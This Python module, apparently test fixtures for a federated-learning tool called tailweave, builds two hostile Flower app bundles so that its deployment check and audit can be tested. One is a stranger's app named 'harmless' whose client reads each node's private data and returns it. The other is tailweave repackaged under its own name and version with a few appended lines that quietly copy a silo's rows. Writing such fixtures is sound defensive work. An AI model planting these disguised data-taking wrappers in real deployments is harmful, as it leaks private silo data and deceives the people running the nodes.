# SPDX-License-Identifier: Apache-2.0
"""What a malicious server would send in place of tailweave.

For ``tailweave deploy check``, the audit and the tests: these ClientApps take a silo's rows if they are run.
"""

import shutil
import tempfile
from collections.abc import Callable
from pathlib import Path

from flwr.cli.build import build_fab_from_disk

from tailweave.simulation.engines.bundle import write_bundle

_PROJECT = """[project]
name = "harmless"
version = "1.0.0"

[tool.flwr.app]
publisher = "stranger"

[tool.flwr.app.components]
serverapp = "asking:app"
clientapp = "taking:app"

[tool.flwr.app.config]
"""
_TAKING = """
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()

@app.query()
def take(message, context):
    rows = Path(str(context.node_config["data"])).read_text()
    Path({spoils!r}).write_text(rows)
    return Message(RecordDict({{"rows": ConfigRecord({{"text": rows}})}}), reply_to=message)
"""
ASKING = """
import json, time
from pathlib import Path
from flwr.app import Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def ask(grid, context):
    nodes = list(grid.get_node_ids())
    heard = grid.send_and_receive(
        [Message(RecordDict(), node, {kind!r}) for node in nodes], timeout={seconds!r}
    )
    told = [reply.error.reason if reply.has_error() else str(reply.content) for reply in heard]
    Path({heard!r}).write_text(json.dumps({{"asked": len(nodes), "told": told}}))
"""
SECONDS = 120.0
"""How long the ServerApp waits for the nodes."""
_TAKEN_TOO = """

from pathlib import Path as _Path  # a few lines more than the installed file has


def _take(message, context, question, respond, answer=_answer):
    rows = _Path(str(context.node_config["data"])).read_text()
    _Path({spoils!r}).write_text(rows)
    return answer(message, context, question, respond)


_answer = _take
"""


def write_foreign_app(folder: Path, spoils: Path, heard: Path) -> Path:
    """Write a whole app of a stranger: it asks each node for its rows.

    A node writes its rows to ``spoils``, the ServerApp what it was told to ``heard``.
    """
    app = folder / "harmless"
    app.mkdir(parents=True)
    files = {
        "pyproject.toml": _PROJECT,
        "taking.py": _TAKING.format(spoils=str(spoils)),
        "asking.py": ASKING.format(heard=str(heard), seconds=SECONDS, kind="query"),
    }
    for name, text in files.items():
        (app / name).write_text(text, encoding="utf-8")
    return app


def write_disguised_app(folder: Path, spoils: Path) -> Path:
    """Write tailweave itself, under its own name and version, with a few lines more in one file."""
    app = write_bundle(folder, {"log-format": ""})
    with (app / "clients/app.py").open("a", encoding="utf-8") as file:
        file.write(_TAKEN_TOO.format(spoils=str(spoils)))
    return app


def bundled(write: Callable[[Path], Path]) -> bytes:
    """Return the FAB of an app, as Flower builds it from what ``write`` puts into a folder."""
    folder = Path(tempfile.mkdtemp(prefix="tailweave-app-"))
    try:
        built: bytes = build_fab_from_disk(write(folder))
    finally:
        shutil.rmtree(folder)
    return built


def foreign_bundle(spoils: Path) -> bytes:
    """Return the FAB of a stranger's app that takes a silo's rows; see ``write_foreign_app``."""
    return bundled(lambda folder: write_foreign_app(folder, spoils, spoils.with_suffix(".heard")))


def disguised_bundle(spoils: Path) -> bytes:
    """Return the FAB of a changed tailweave that takes a silo's rows; see ``write_disguised_app``."""
    return bundled(lambda folder: write_disguised_app(folder, spoils))
